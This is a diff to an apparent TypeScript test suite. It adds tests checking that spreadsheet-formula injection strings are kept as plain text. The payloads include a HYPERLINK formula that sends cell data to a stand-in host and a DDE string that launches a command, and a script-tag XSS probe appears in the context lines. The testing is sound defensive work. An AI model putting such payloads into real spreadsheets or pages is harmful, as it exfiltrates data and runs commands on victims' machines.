@@ -150,6 +150,25 @@ function pageParts(html: string): { readonly tags: string[]; readonly attributes
   };
 }
 
+describe('formulas of spreadsheets', () => {
+  it.each([
+    '=HYPERLINK("http://jahat.example/?"&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    '-2+3',
+    '@SUM(1+1)',
+    '\t=1+1',
+    '\r=1+1',
+    '"=1+1"',
+    '＝1+1',
+    ';=1+1',
+    'a\n=1+1',
+  ])('%j is text as any other', async (formula) => {
+    const item = { id: formula, title: formula, author: [{ family: formula }] };
+    const [read] = itemsOf(await runOn(scratch, 'sheet.json', jsonOf(item)));
+    expect(read).toMatchObject(item);
+  });
+});
+
 describe('HTML', () => {
   it.each([
     '<script>alert(1)</script>',
